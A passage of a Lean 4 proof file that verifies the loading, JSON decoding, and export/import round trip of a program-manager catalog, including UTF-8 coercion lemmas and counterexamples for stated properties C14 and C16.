    have ih1 := ih (fun kv hkv => h kv (List.mem_cons_of_mem _ hkv))
    unfold decodeManagerFields
    by_cases hp : sameField key "programs" = true
    · have hnull := hx.1 hp
      cases v with
      | null => simp only [hp, ↓reduceIte, decodePrograms]; exact ih1 version
      | bool b => simp [Json.isNull] at hnull
      | int n => simp [Json.isNull] at hnull
      | frac raw => simp [Json.isNull] at hnull
      | str s => simp [Json.isNull] at hnull
      | arr items => simp [Json.isNull] at hnull
      | obj fs => simp [Json.isNull] at hnull
    · have hp2 : sameField key "programs" = false := by
        cases hs : sameField key "programs" with
        | true => exact absurd hs hp
        | false => rfl
      by_cases hv : sameField key "version" = true
      · rcases hx.2 hp2 hv with hnull | ⟨s, hs⟩
        · cases v with
          | null =>
            simp only [hp2, hv, Bool.false_eq_true, ↓reduceIte, decodeString]
            exact ih1 version
          | bool b => simp [Json.isNull] at hnull
          | int n => simp [Json.isNull] at hnull
          | frac raw => simp [Json.isNull] at hnull
          | str s => simp [Json.isNull] at hnull
          | arr items => simp [Json.isNull] at hnull
          | obj fs => simp [Json.isNull] at hnull
        · subst hs
          simp only [hp2, hv, Bool.false_eq_true, ↓reduceIte, decodeString]
          exact ih1 s
      · simp only [hp2, hv, Bool.false_eq_true, ↓reduceIte]
        exact ih1 version

/-- C16, counterexample: a catalog file holding the JSON value `null`, which is not an
object, is loaded without error, as a catalog with no programs and an empty version. -/
theorem C16_counterexample :
    Json.null.isObject = false ∧
      (OnDisk.LoadPrograms TimeCodec.tally Faults.quiet "data/programs.json"
        (Disk.empty.set "data/programs.json" (some (.json .null)))).toOption =
        some { Programs := [], Version := "" } := by
  refine ⟨by decide, by decide⟩

/-- C16, amended: LoadPrograms returns the catalog of NewProgramManager when the file is
absent; it returns an error when the file is not well-formed JSON, when its value is
neither `null` nor an object, and when a `programs` member is neither `null` nor an
object; a file holding `null` is loaded as the catalog with no programs and an empty
version; an object whose `programs` members are `null` or missing and whose `version`
members are strings or `null` is loaded with an empty programs map; and every catalog
returned holds a programs map, the one decoded or an empty one. -/
theorem C16_load_cases (codec : TimeCodec) (faults : Faults) (filePath : String)
    (d : Disk) :
    (d.file filePath = none →
      OnDisk.LoadPrograms codec faults filePath d = .ok NewProgramManager) ∧
    (∀ raw, d.file filePath = some (.other raw) →
      ∃ e, OnDisk.LoadPrograms codec faults filePath d = .error e) ∧
    (∀ v, d.file filePath = some (.json v) → v.isNull = false → v.isObject = false →
      ∃ e, OnDisk.LoadPrograms codec faults filePath d = .error e) ∧
    (∀ fields, d.file filePath = some (.json (.obj fields)) →
      (∃ kv ∈ fields, sameField kv.1 "programs" = true ∧ kv.2.isNull = false ∧
        kv.2.isObject = false) →
      ∃ e, OnDisk.LoadPrograms codec faults filePath d = .error e) ∧
    (d.file filePath = some (.json .null) → faults.readFile filePath = none →
      OnDisk.LoadPrograms codec faults filePath d = .ok { Programs := [], Version := "" }) ∧
    (∀ fields, d.file filePath = some (.json (.obj fields)) →
      faults.readFile filePath = none →
      (∀ kv ∈ fields, (sameField kv.1 "programs" = true → kv.2.isNull = true) ∧
        (sameField kv.1 "programs" = false → sameField kv.1 "version" = true →
          kv.2.isNull = true ∨ ∃ s, kv.2 = .str s)) →
      ∃ version, OnDisk.LoadPrograms codec faults filePath d =
        .ok { Programs := [], Version := version }) ∧
    (∀ pm, OnDisk.LoadPrograms codec faults filePath d = .ok pm →
      pm = NewProgramManager ∨
        ∃ data raw, d.file filePath = some data ∧ Unmarshal codec data = .ok raw ∧
          pm.Version = raw.Version ∧ pm.Programs = raw.Programs.getD []) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · intro h
    simp only [OnDisk.LoadPrograms, h]
  · intro raw h
    simp only [OnDisk.LoadPrograms, h, Unmarshal]
    split
    · exact ⟨_, rfl⟩
    · exact ⟨_, rfl⟩
  · intro v h hn ho
    obtain ⟨e, he⟩ := decodeManager_error codec v hn ho
    simp only [OnDisk.LoadPrograms, h, Unmarshal, he]
    split
    · exact ⟨_, rfl⟩
    · exact ⟨_, rfl⟩
  · intro fields h hbad
    obtain ⟨e, he⟩ := decodeManagerFields_error codec fields hbad
      { Programs := none, Version := "" }
    simp only [OnDisk.LoadPrograms, h, Unmarshal, decodeManager, he]
    split
    · exact ⟨_, rfl⟩
    · exact ⟨_, rfl⟩
  · intro h hread
    simp only [OnDisk.LoadPrograms, h, hread, Unmarshal, decodeManager]
  · intro fields h hread hfields
    obtain ⟨version, hv⟩ := decodeManagerFields_no_programs codec fields hfields ""
    refine ⟨version, ?_⟩
    simp only [OnDisk.LoadPrograms, h, hread, Unmarshal, decodeManager, hv]
  · intro pm h
    simp only [OnDisk.LoadPrograms] at h
    split at h
    · left
      injection h with h
      exact h.symm
    · rename_i data hdata
      split at h
      · cases h
      · split at h
        · cases h
        · rename_i raw hraw
          right
          refine ⟨data, raw, hdata, hraw, ?_⟩
          split at h
          · rename_i hnil
            injection h with h
            subst h
            simp [hnil]
          · rename_i m hm
            injection h with h
            subst h
            simp [hm]

/-- Witness for C16: no file; a file whose `programs` member is an array; a file with a
version and no `programs` member. -/
theorem C16_load_cases_witness :
    OnDisk.LoadPrograms TimeCodec.tally Faults.quiet "data/programs.json" Disk.empty =
        .ok NewProgramManager ∧
      (∃ e, OnDisk.LoadPrograms TimeCodec.tally Faults.quiet "data/programs.json"
        (Disk.empty.set "data/programs.json" (some (.json (.obj [("programs", .arr [])])))) =
          .error e) ∧
      ∃ version, OnDisk.LoadPrograms TimeCodec.tally Faults.quiet "data/programs.json"
        (Disk.empty.set "data/programs.json"
          (some (.json (.obj [("version", .str "1.0")])))) =
          .ok { Programs := [], Version := version } :=
  ⟨(C16_load_cases TimeCodec.tally Faults.quiet "data/programs.json" Disk.empty).1 rfl,
    (C16_load_cases TimeCodec.tally Faults.quiet "data/programs.json"
      (Disk.empty.set "data/programs.json"
        (some (.json (.obj [("programs", .arr [])]))))).2.2.2.1
      [("programs", .arr [])] (Disk_set_self _ _ _)
      ⟨("programs", .arr []), List.mem_cons_self _ _, by decide, rfl, rfl⟩,
    (C16_load_cases TimeCodec.tally Faults.quiet "data/programs.json"
      (Disk.empty.set "data/programs.json"
        (some (.json (.obj [("version", .str "1.0")]))))).2.2.2.2.2.1
      [("version", .str "1.0")] (Disk_set_self _ _ _) rfl
      (by
        intro kv hkv
        rw [List.mem_singleton] at hkv
        subst hkv
        exact ⟨fun h => absurd h (by decide), fun _ _ => Or.inr ⟨"1.0", rfl⟩⟩)⟩

/-! ## The export and import round trip -/

theorem field_id (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "id" v =
      (decodeString "Program.id" v q.ID).map fun x => { q with ID := x } := rfl

theorem field_name (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "name" v =
      (decodeString "Program.name" v q.Name).map fun x => { q with Name := x } := rfl

theorem field_command (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "command" v =
      (decodeString "Program.command" v q.Command).map fun x => { q with Command := x } :=
  rfl

theorem field_working_dir (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "working_dir" v =
      (decodeString "Program.working_dir" v q.WorkingDir).map fun x =>
        { q with WorkingDir := x } := rfl

theorem field_description (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "description" v =
      (decodeString "Program.description" v q.Description).map fun x =>
        { q with Description := x } := rfl

theorem field_status (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "status" v =
      (decodeString "Program.status" v q.Status).map fun x => { q with Status := x } := rfl

theorem field_pid (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "pid" v =
      (decodeInt "Program.pid" v q.PID).map fun x => { q with PID := x } := rfl

theorem field_port (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "port" v =
      (decodeInt "Program.port" v q.Port).map fun x => { q with Port := x } := rfl

theorem field_created_at (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "created_at" v =
      (decodeTime codec v q.CreatedAt).map fun x => { q with CreatedAt := x } := rfl

theorem field_updated_at (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "updated_at" v =
      (decodeTime codec v q.UpdatedAt).map fun x => { q with UpdatedAt := x } := rfl

theorem field_auto_start (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "auto_start" v =
      (decodeBool "Program.auto_start" v q.AutoStart).map fun x =>
        { q with AutoStart := x } := rfl

theorem field_restart_policy (codec : TimeCodec) (q : Program) (v : Json) :
    decodeProgramField codec q "restart_policy" v =
      (decodeString "Program.restart_policy" v q.RestartPolicy).map fun x =>
        { q with RestartPolicy := x } := rfl

theorem decodeProgramFields_members (codec : TimeCodec) (p : Program) (c u : String)
    (hc : codec.parse c = some p.CreatedAt) (hu : codec.parse u = some p.UpdatedAt)
    (hpid : int64 p.PID = true) (hport : int64 p.Port = true) :
    decodeProgramFields codec (programMembers p c u) Program.zero = .ok p := by
  obtain ⟨id, name, command, wd, desc, status, pid, port, created, updated, auto, rp⟩ := p
  simp only at hc hu hpid hport
  by_cases h1 : wd = "" <;> by_cases h2 : desc = "" <;> by_cases h3 : port = 0 <;>
    by_cases h4 : auto = false <;> by_cases h5 : rp = "" <;>
    simp [programMembers, omitempty, decodeProgramFields, field_id, field_name,
      field_command, field_working_dir, field_description, field_status, field_pid,
      field_port, field_created_at, field_updated_at, field_auto_start,
      field_restart_policy, decodeString, decodeInt, decodeBool, decodeTime, Except.map,
      Program.zero, hc, hu, hpid, hport, h1, h2, h3, h4, h5]

theorem decodeProgram_encodeProgram (codec : TimeCodec) (hlaw : codec.Lawful) (p : Program)
    (v : Json) (hpid : int64 p.PID = true) (hport : int64 p.Port = true)
    (h : encodeProgram codec p = .ok v) : decodeProgram codec v Program.zero = .ok p := by
  unfold encodeProgram at h
  split at h
  · rename_i created updated hc hu
    injection h with h
    subst h
    exact decodeProgramFields_members codec p created updated (hlaw _ _ hc) (hlaw _ _ hu)
      hpid hport
  · cases h

theorem mem_keys_iff (m : List (String × Program)) (k : String) :
    k ∈ m.map Prod.fst ↔ mapGet m k ≠ none := by
  induction m with
  | nil => simp [mapGet]
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    by_cases hk : k1 = k
    · simp [mapGet, hk]
    · simp only [List.map_cons, List.mem_cons, mapGet, hk, ↓reduceIte]
      rw [← ih]
      constructor
      · rintro (h | h)
        · exact absurd h.symm hk
        · exact h
      · intro h
        exact Or.inr h

theorem mem_sortedKeys_iff (m : List (String × Program)) (k : String) :
    k ∈ sortedKeys m ↔ mapGet m k ≠ none := by
  unfold sortedKeys
  rw [(List.perm_insertionSort _ _).mem_iff, List.mem_dedup]
  exact mem_keys_iff m k

theorem decodeMapFields_encodePrograms (codec : TimeCodec) (hlaw : codec.Lawful)
    (m : List (String × Program))
    (hint : ∀ k p, mapGet m k = some p → int64 p.PID = true ∧ int64 p.Port = true) :
    ∀ (ks : List String) (members : List (String × Json)),
      encodePrograms codec m ks = .ok members →
      ∀ acc : List (String × Program), ∃ out : List (String × Program),
        decodeMapFields codec members acc = .ok out ∧
        (∀ k, k ∈ ks → mapGet m k ≠ none → mapGet out k = mapGet m k) ∧
        (∀ k, (k ∉ ks ∨ mapGet m k = none) → mapGet out k = mapGet acc k) := by
  intro ks
  induction ks with
  | nil =>
    intro members h acc
    simp only [encodePrograms] at h
    injection h with h
    subst h
    exact ⟨acc, rfl, fun k hk => absurd hk (List.not_mem_nil k), fun _ _ => rfl⟩
  | cons k0 ks ih =>
    intro members h acc
    unfold encodePrograms at h
    split at h
    · rename_i hnone
      obtain ⟨out, hout, hin, hout2⟩ := ih members h acc
      refine ⟨out, hout, ?_, ?_⟩
      · intro k hk hne
        rcases List.mem_cons.1 hk with heq | hmem
        · subst heq
          exact absurd hnone hne
        · exact hin k hmem hne
      · intro k hk
        rcases hk with hk | hk
        · exact hout2 k (Or.inl fun hmem => hk (List.mem_cons_of_mem _ hmem))
        · exact hout2 k (Or.inr hk)
    · rename_i p hp
      split at h
      · cases h
      · rename_i v hv
        split at h
        · cases h
        · rename_i rest hrest
          injection h with h
          subst h
          have hdec := decodeProgram_encodeProgram codec hlaw p v (hint k0 p hp).1
            (hint k0 p hp).2 hv
          obtain ⟨out, hout, hin, hout2⟩ := ih rest hrest (mapSet acc k0 p)
          refine ⟨out, ?_, ?_, ?_⟩
          · simp only [decodeMapFields, hdec]
            exact hout
          · intro k hk hne
            by_cases hmem : k ∈ ks
            · exact hin k hmem hne
            · rcases List.mem_cons.1 hk with heq | hmem2
              · subst heq
                rw [hout2 k (Or.inl hmem), mapGet_mapSet_self, hp]
              · exact absurd hmem2 hmem
          · intro k hk
            have hne : k ≠ k0 := by
              intro heq
              subst heq
              rcases hk with hk | hk
              · exact hk (List.mem_cons_self _ _)
              · rw [hp] at hk
                cases hk
            have h2 : k ∉ ks ∨ mapGet m k = none := by
              rcases hk with hk | hk
              · exact Or.inl fun hmem => hk (List.mem_cons_of_mem _ hmem)
              · exact Or.inr hk
            rw [hout2 k h2, mapGet_mapSet_other acc p hne]

theorem Unmarshal_encodeManager (codec : TimeCodec) (hlaw : codec.Lawful)
    (pm : RawProgramManager)
    (hint : ∀ m, pm.Programs = some m → ∀ k p, mapGet m k = some p →
      int64 p.PID = true ∧ int64 p.Port = true)
    (v : Json) (h : encodeManager codec pm = .ok v) :
    ∃ raw, Unmarshal codec (.json v) = .ok raw ∧ raw.Version = pm.Version ∧
      (pm.Programs = none → raw.Programs = none) ∧
      (∀ m, pm.Programs = some m →
        ∃ out, raw.Programs = some out ∧ ∀ k, mapGet out k = mapGet m k) := by
  unfold encodeManager at h
  split at h
  · rename_i hnil
    injection h with h
    subst h
    refine ⟨{ Programs := none, Version := pm.Version }, rfl, rfl, fun _ => rfl, ?_⟩
    intro m hm
    rw [hnil] at hm
    cases hm
  · rename_i m hm
    split at h
    · cases h
    · rename_i members hmembers
      injection h with h
      subst h
      obtain ⟨out, hout, hin, hout2⟩ :=
        decodeMapFields_encodePrograms codec hlaw m (hint m hm) (sortedKeys m) members
          hmembers []
      refine ⟨{ Programs := some out, Version := pm.Version }, ?_, rfl, ?_, ?_⟩
      · have hp : sameField "programs" "programs" = true := by decide
        have hv1 : sameField "version" "programs" = false := by decide
        have hv2 : sameField "version" "version" = true := by decide
        simp only [Unmarshal, decodeManager, decodeManagerFields, hp, hv1, hv2, ↓reduceIte,
          decodePrograms, Option.getD_none, hout, Except.map, decodeString,
          Bool.false_eq_true]
      · intro hnil
        rw [hm] at hnil
        cases hnil
      · intro m2 hm2
        rw [hm] at hm2
        injection hm2 with hm2
        subst hm2
        refine ⟨out, rfl, ?_⟩
        intro k
        cases hk : mapGet m k with
        | none =>
          rw [hout2 k (Or.inr hk)]
          rfl
        | some p =>
          have hne : mapGet m k ≠ none := by rw [hk]; exact Option.some_ne_none p
          rw [hin k ((mem_sortedKeys_iff m k).2 hne) hne, hk]

/-! ## Strings as bytes: the coercion to valid UTF-8 -/

theorem utf8Encode_length_pos (c : Char) : 0 < (utf8Encode c).length := by
  unfold utf8Encode
  split
  · simp
  · split
    · simp
    · split <;> simp

theorem char_valid (c : Char) : c.toNat < 0xD800 ∨ (0xDFFF < c.toNat ∧ c.toNat < 0x110000) := by
  have h := c.valid
  simp only [UInt32.isValidChar, Nat.isValidChar] at h
  exact h

theorem decodeRune_utf8Encode (c : Char) (rest : List Nat) :
    decodeRune (utf8Encode c ++ rest) = some (c.toNat, (utf8Encode c).length) := by
  have hv := char_valid c
  unfold utf8Encode
  split
  · next h1 => simp [decodeRune, h1]
  · next h1 =>
    split
    · next h2 =>
      have a1 : ¬(0xC0 + c.toNat / 64 < 0x80) := by omega
      have a2 : between 0xC2 0xDF (0xC0 + c.toNat / 64) = true := by
        simp only [between, decide_eq_true_eq]; omega
      have a3 : between 0x80 0xBF (0x80 + c.toNat % 64) = true := by
        simp only [between, decide_eq_true_eq]; omega
      have a4 : (0xC0 + c.toNat / 64 - 0xC0) * 64 + (0x80 + c.toNat % 64 - 0x80) = c.toNat := by
        omega
      simp only [List.cons_append, List.nil_append, decodeRune, a1, a2, a3, a4, ↓reduceIte,
        List.length_cons, List.length_nil]
    · next h2 =>
      split
      · next h3 =>
        have a1 : ¬(0xE0 + c.toNat / 4096 < 0x80) := by omega
        have a2 : between 0xC2 0xDF (0xE0 + c.toNat / 4096) = false := by
          simp only [between, decide_eq_false_iff_not]; omega
        have a3 : between 0xE0 0xEF (0xE0 + c.toNat / 4096) = true := by
          simp only [between, decide_eq_true_eq]; omega
        have a4 : between (if 0xE0 + c.toNat / 4096 = 0xE0 then 0xA0 else 0x80)
            (if 0xE0 + c.toNat / 4096 = 0xED then 0x9F else 0xBF)
            (0x80 + c.toNat / 64 % 64) = true := by
          simp only [between, decide_eq_true_eq]
          split <;> split <;> omega
        have a5 : between 0x80 0xBF (0x80 + c.toNat % 64) = true := by
          simp only [between, decide_eq_true_eq]; omega
        have a6 : (0xE0 + c.toNat / 4096 - 0xE0) * 4096 + (0x80 + c.toNat / 64 % 64 - 0x80) * 64 +
            (0x80 + c.toNat % 64 - 0x80) = c.toNat := by
          omega
        simp only [List.cons_append, List.nil_append, decodeRune, a1, a2, a3, a4, a5, a6,
          ↓reduceIte, Bool.and_self, Bool.false_eq_true, List.length_cons, List.length_nil]
      · next h3 =>
        have a1 : ¬(0xF0 + c.toNat / 262144 < 0x80) := by omega
        have a2 : between 0xC2 0xDF (0xF0 + c.toNat / 262144) = false := by
          simp only [between, decide_eq_false_iff_not]; omega
        have a3 : between 0xE0 0xEF (0xF0 + c.toNat / 262144) = false := by
          simp only [between, decide_eq_false_iff_not]; omega
        have a3b : between 0xF0 0xF4 (0xF0 + c.toNat / 262144) = true := by
          simp only [between, decide_eq_true_eq]; omega
        have a4 : between (if 0xF0 + c.toNat / 262144 = 0xF0 then 0x90 else 0x80)
            (if 0xF0 + c.toNat / 262144 = 0xF4 then 0x8F else 0xBF)
            (0x80 + c.toNat / 4096 % 64) = true := by
          simp only [between, decide_eq_true_eq]
          split <;> split <;> omega
        have a5 : between 0x80 0xBF (0x80 + c.toNat / 64 % 64) = true := by
          simp only [between, decide_eq_true_eq]; omega
        have a5b : between 0x80 0xBF (0x80 + c.toNat % 64) = true := by
          simp only [between, decide_eq_true_eq]; omega
        have a6 : (0xF0 + c.toNat / 262144 - 0xF0) * 262144 +
            (0x80 + c.toNat / 4096 % 64 - 0x80) * 4096 +
            (0x80 + c.toNat / 64 % 64 - 0x80) * 64 + (0x80 + c.toNat % 64 - 0x80) = c.toNat := by
          omega
        simp only [List.cons_append, List.nil_append, decodeRune, a1, a2, a3, a3b, a4, a5, a5b,
          a6, ↓reduceIte, Bool.and_self, Bool.false_eq_true, List.length_cons, List.length_nil]

theorem toValidUTF8Aux_utf8 (cs : List Char) :
    ∀ fuel, ((cs.map utf8Encode).flatten).length ≤ fuel →
      toValidUTF8Aux fuel (cs.map utf8Encode).flatten = cs := by
  induction cs with
  | nil =>
    intro fuel _
    cases fuel <;> simp [toValidUTF8Aux]
  | cons c cs ih =>
    intro fuel hf
    have hpos := utf8Encode_length_pos c
    simp only [List.map_cons, List.flatten_cons, List.length_append] at hf ⊢
    cases fuel with
    | zero => omega
    | succ f =>
      have hne : utf8Encode c ++ (cs.map utf8Encode).flatten ≠ [] := by
        intro h
        have := congrArg List.length h
        simp only [List.length_append, List.length_nil] at this
        omega
      simp only [toValidUTF8Aux, hne, ↓reduceIte, decodeRune_utf8Encode, List.drop_left,
        Char.ofNat_toNat]
      rw [ih f (by omega)]

theorem toValidUTF8_utf8Bytes (s : String) : toValidUTF8 (utf8Bytes s) = s := by
  unfold toValidUTF8 utf8Bytes
  rw [toValidUTF8Aux_utf8 s.data _ (Nat.le_refl _)]

theorem toValidUTF8_eq_empty (s : GoString) : toValidUTF8 s = "" ↔ s = [] := by
  constructor
  · intro h
    cases s with
    | nil => rfl
    | cons b rest =>
      exfalso
      have h1 := congrArg String.data h
      simp only [toValidUTF8, List.length_cons, toValidUTF8Aux] at h1
      split at h1
      · next hs => cases hs
      · split at h1 <;> cases h1
  · intro h
    subst h
    rfl

theorem decide_empty (s : GoString) : decide (s = []) = decide (toValidUTF8 s = "") := by
  by_cases h : s = []
  · subst h
    rfl
  · have : ¬ toValidUTF8 s = "" := fun h1 => h ((toValidUTF8_eq_empty s).1 h1)
    simp [h, this]

theorem goProgramMembers_written (g : GoProgram) (created updated : String) :
    goProgramMembers g created updated = programMembers g.written created updated := by
  simp only [goProgramMembers, programMembers, GoProgram.written, decide_empty]

theorem encodeGoProgram_written (codec : TimeCodec) (g : GoProgram) :
    encodeGoProgram codec g = encodeProgram codec g.written := by
  simp only [encodeGoProgram, encodeProgram, goProgramMembers_written]
  rfl

theorem validUTF8_inj {a b : GoString} (ha : validUTF8 a) (hb : validUTF8 b)
    (h : toValidUTF8 a = toValidUTF8 b) : a = b := by
  unfold validUTF8 at ha hb
  rw [← ha, ← hb, h]

theorem validUTF8_utf8Bytes (s : String) : validUTF8 (utf8Bytes s) := by
  unfold validUTF8
  rw [toValidUTF8_utf8Bytes]

theorem written_bytes {g : GoProgram} (h : g.Valid) : g.written.bytes = g := by
  obtain ⟨h1, h2, h3, h4, h5, h6, h7⟩ := h
  unfold validUTF8 at h1 h2 h3 h4 h5 h6 h7
  cases g
  simp only [GoProgram.written, Program.bytes] at *
  simp only [h1, h2, h3, h4, h5, h6, h7]

theorem mapGet_writtenMap (m : List (GoString × GoProgram))
    (hm : ∀ e ∈ m, validUTF8 e.1) (k : GoString) (hk : validUTF8 k) :
    mapGet (writtenMap m) (toValidUTF8 k) = (goMapGet m k).map GoProgram.written := by
  induction m with
  | nil => rfl
  | cons e rest ih =>
    obtain ⟨k1, g⟩ := e
    have hk1 : validUTF8 k1 := hm (k1, g) (List.mem_cons_self _ _)
    have ih1 := ih fun e he => hm e (List.mem_cons_of_mem _ he)
    by_cases h : k1 = k
    · subst h
      simp [writtenMap, mapGet, goMapGet]
    · have hne : toValidUTF8 k1 ≠ toValidUTF8 k := fun heq => h (validUTF8_inj hk1 hk heq)
      simp only [writtenMap, List.map_cons, mapGet, goMapGet, hne, h, ↓reduceIte]
      exact ih1

theorem goMapGet_mem {m : List (GoString × GoProgram)} {k : GoString} {g : GoProgram}
    (h : goMapGet m k = some g) : (k, g) ∈ m := by
  induction m with
  | nil => simp [goMapGet] at h
  | cons e rest ih =>
    obtain ⟨k1, v1⟩ := e
    unfold goMapGet at h
    split at h
    · rename_i hk
      simp only [Option.some.injEq] at h
      subst hk; subst h
      exact List.mem_cons_self _ _
    · exact List.mem_cons_of_mem _ (ih h)

theorem mapGet_writtenMap_bytes (m : List (GoString × GoProgram))
    (hm : ∀ e ∈ m, validUTF8 e.1 ∧ e.2.Valid) (k : String) :
    (mapGet (writtenMap m) k).map Program.bytes = goMapGet m (utf8Bytes k) := by
  have h1 := mapGet_writtenMap m (fun e he => (hm e he).1) (utf8Bytes k) (validUTF8_utf8Bytes k)
  rw [toValidUTF8_utf8Bytes] at h1
  rw [h1]
  cases hg : goMapGet m (utf8Bytes k) with
  | none => rfl
  | some g =>
    have hv := (hm _ (goMapGet_mem hg)).2
    simp only [Option.map_some, Option.map_some', written_bytes hv]

theorem bytes_written (p : Program) : p.bytes.written = p := by
  cases p
  simp only [Program.bytes, GoProgram.written, toValidUTF8_utf8Bytes]

theorem encodeGoProgram_bytes (codec : TimeCodec) (p : Program) :
    encodeGoProgram codec p.bytes = encodeProgram codec p := by
  rw [encodeGoProgram_written, bytes_written]

theorem encodeGoPrograms_written (codec : TimeCodec) (m : List (GoString × GoProgram))
    (hm : ∀ e ∈ m, validUTF8 e.1) :
    ∀ ks : List GoString, (∀ k ∈ ks, validUTF8 k) →
      encodeGoPrograms codec m ks = encodePrograms codec (writtenMap m) (ks.map toValidUTF8) := by
  intro ks
  induction ks with
  | nil => intro _; rfl
  | cons k ks ih =>
    intro hks
    have hk := hks k (List.mem_cons_self _ _)
    have ih1 := ih fun k1 h1 => hks k1 (List.mem_cons_of_mem _ h1)
    simp only [encodeGoPrograms, List.map_cons, encodePrograms, mapGet_writtenMap m hm k hk]
    cases goMapGet m k with
    | none => exact ih1
    | some g =>
      simp only [Option.map_some, Option.map_some', encodeGoProgram_written, ih1]

theorem mem_sortedGoKeys (m : List (GoString × GoProgram)) (k : GoString) :
    k ∈ sortedGoKeys m ↔ k ∈ m.map Prod.fst := by
  unfold sortedGoKeys
  rw [(List.perm_insertionSort _ _).mem_iff, List.mem_dedup]

theorem mem_written_sortedGoKeys (m : List (GoString × GoProgram)) (k : String)
    (h : mapGet (writtenMap m) k ≠ none) : k ∈ (sortedGoKeys m).map toValidUTF8 := by
  have h1 := (mem_keys_iff (writtenMap m) k).2 h
  simp only [writtenMap, List.map_map, List.mem_map, Function.comp] at h1
  obtain ⟨e, he, hk⟩ := h1
  exact List.mem_map.2 ⟨e.1, (mem_sortedGoKeys m e.1).2 (List.mem_map.2 ⟨e, he, rfl⟩), hk⟩

theorem Unmarshal_members (codec : TimeCodec) (hlaw : codec.Lawful)
    (m : List (String × Program))
    (hint : ∀ k p, mapGet m k = some p → int64 p.PID = true ∧ int64 p.Port = true)
    (ks : List String) (hks : ∀ k, mapGet m k ≠ none → k ∈ ks)
    (members : List (String × Json)) (h : encodePrograms codec m ks = .ok members)
    (ver : String) :
    ∃ out, Unmarshal codec (.json (.obj [("programs", .obj members), ("version", .str ver)])) =
        .ok { Programs := some out, Version := ver } ∧
      ∀ k, mapGet out k = mapGet m k := by
  obtain ⟨out, hout, hin, hout2⟩ :=
    decodeMapFields_encodePrograms codec hlaw m hint ks members h []
  refine ⟨out, ?_, ?_⟩
  · have hp : sameField "programs" "programs" = true := by decide
    have hv1 : sameField "version" "programs" = false := by decide
    have hv2 : sameField "version" "version" = true := by decide
    simp only [Unmarshal, decodeManager, decodeManagerFields, hp, hv1, hv2, ↓reduceIte,
      decodePrograms, Option.getD_none, hout, Except.map, decodeString,
      Bool.false_eq_true]
  · intro k
    cases hk : mapGet m k with
    | none =>
      rw [hout2 k (Or.inr hk)]
      rfl
    | some p =>
      have hne : mapGet m k ≠ none := by rw [hk]; exact Option.some_ne_none p
      rw [hin k (hks k hne) hne, hk]

theorem Unmarshal_null_programs (codec : TimeCodec) (ver : String) :
    Unmarshal codec (.json (.obj [("programs", .null), ("version", .str ver)])) =
      .ok { Programs := none, Version := ver } := by
  rfl

theorem writtenMap_int64 (m : List (GoString × GoProgram))
    (hint : ∀ e ∈ m, int64 e.2.PID = true ∧ int64 e.2.Port = true) :
    ∀ k p, mapGet (writtenMap m) k = some p → int64 p.PID = true ∧ int64 p.Port = true := by
  intro k p hk
  have hmem := mapGet_mem hk
  simp only [writtenMap, List.mem_map] at hmem
  obtain ⟨e, he, heq⟩ := hmem
  have := hint e he
  injection heq with _ h2
  subst h2
  exact this

theorem tally_lawful : TimeCodec.tally.Lawful := by
  intro t s h
  simp only [TimeCodec.tally] at h ⊢
  split at h
  · injection h with h
    subst h
    simp
  · cases h

theorem int64_of_all (m : List (String × Program))
    (h : (m.all fun e => int64 e.2.PID && int64 e.2.Port) = true) :
    ∀ k p, mapGet m k = some p → int64 p.PID = true ∧ int64 p.Port = true := by
  intro k p hk
  have hmem := mapGet_mem hk
  have := List.all_eq_true.1 h _ hmem
  simpa using this

/-- C14, counterexample: a record whose name is the single byte 0xFF, which is not valid
UTF-8, is exported without error and imported with the name U+FFFD (the bytes EF BF BD);
and a catalog of valid strings is exported without error, after which the file cannot be
read and ImportPrograms fails. -/
theorem C14_counterexample :
    (OnDisk.ExportPrograms TimeCodec.tally Faults.quiet "backup.json"
        { Programs := some [(utf8Bytes "a",
            { (sampleProgram "a" "x" "sleep 1").bytes with Name := [0xFF] })],
          Version := utf8Bytes "1.0" } Disk.empty).1 = none ∧
      ((OnDisk.ImportPrograms TimeCodec.tally Faults.quiet "backup.json"
        (OnDisk.ExportPrograms TimeCodec.tally Faults.quiet "backup.json"
          { Programs := some [(utf8Bytes "a",
              { (sampleProgram "a" "x" "sleep 1").bytes with Name := [0xFF] })],
            Version := utf8Bytes "1.0" } Disk.empty).2).toOption.map
        fun got => (mapGet got.Programs "a").map fun p => utf8Bytes p.Name) =
        some (some [0xEF, 0xBF, 0xBD]) ∧
      (OnDisk.ExportPrograms TimeCodec.tally
        { Faults.quiet with readFile := fun _ => some "permission denied" } "backup.json"
        { Programs := some [(utf8Bytes "a", (sampleProgram "a" "x" "sleep 1").bytes)],
          Version := utf8Bytes "1.0" } Disk.empty).1 = none ∧
      (match OnDisk.ImportPrograms TimeCodec.tally
          { Faults.quiet with readFile := fun _ => some "permission denied" } "backup.json"
          (OnDisk.ExportPrograms TimeCodec.tally
            { Faults.quiet with readFile := fun _ => some "permission denied" } "backup.json"
            { Programs := some [(utf8Bytes "a", (sampleProgram "a" "x" "sleep 1").bytes)],
              Version := utf8Bytes "1.0" } Disk.empty).2 with
        | .error e => some e
        | .ok _ => none) = some "failed to read import file: permission denied" := by
  decide

/-- C14, amended: for a catalog whose version, keys and record strings are valid UTF-8,
when formatting and parsing of times are inverse on instants and the integers of the
records fit a Go int, a successful ExportPrograms is followed by an ImportPrograms of the
same path that fails with `failed to read import file` when the file cannot be read, and
otherwise succeeds and returns a catalog with the same version and, under every key, the
same record, byte for byte; when the map of the exported catalog is nil the imported one is
empty. -/
theorem C14_export_import_round_trip (codec : TimeCodec) (faults : Faults) (path : String)
    (pm : GoProgramManager) (d : Disk) (hlaw : codec.Lawful)
    (hint : ∀ m, pm.Programs = some m → ∀ e ∈ m,
      int64 e.2.PID = true ∧ int64 e.2.Port = true)
